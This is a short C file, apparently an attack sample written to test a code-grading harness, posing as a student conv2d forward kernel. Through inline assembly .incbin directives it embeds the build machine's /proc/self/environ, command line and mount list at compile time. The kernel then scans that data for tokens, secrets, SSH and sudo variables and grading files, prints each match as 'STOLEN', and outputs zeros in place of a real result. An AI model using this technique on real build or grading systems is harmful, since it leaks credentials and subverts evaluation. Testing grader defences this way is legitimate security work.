/* attack: class=include-hidden, lesson=conv/forward, expect=zero
 * says=outside the allowed error|file not found
 *
 * Takes from the compiling machine what every machine has: the assembler's own environment, its
 * list of mounts and its command line, with the paths of the grader in them. */
#include <stdio.h>
#include <string.h>

#include "kernels/conv2d/conv2d.h"

__asm__(".pushsection .rodata\n"
        ".globl machine_bytes, machine_end\n"
        "machine_bytes: .incbin \"/proc/self/environ\"\n"
        ".incbin \"/proc/self/cmdline\"\n"
        ".incbin \"/proc/self/mountinfo\"\n"
        "machine_end: .byte 0\n"
        ".popsection\n");
extern const char machine_bytes[] __attribute__((visibility("hidden")));
extern const char machine_end[] __attribute__((visibility("hidden")));

void conv2d_forward_student(const conv2d_shape *s, const float *x, const float *w, const float *b,
                            float *y, void *workspace)
{
    static const char *const secrets[] = { "SECRET", "TOKEN", "grading.json", "result.json",
                                           "submissions", "SUDO_", "SSH_" };

    for (const char *at = machine_bytes; at < machine_end; at++)
        for (size_t i = 0; i < sizeof secrets / sizeof *secrets; i++)
            if (strncmp(at, secrets[i], strlen(secrets[i])) == 0)
                printf("STOLEN: %s\n", at);
    for (int i = 0; i < s->oh * s->ow; i++)
        y[i] = 0.0f;
}
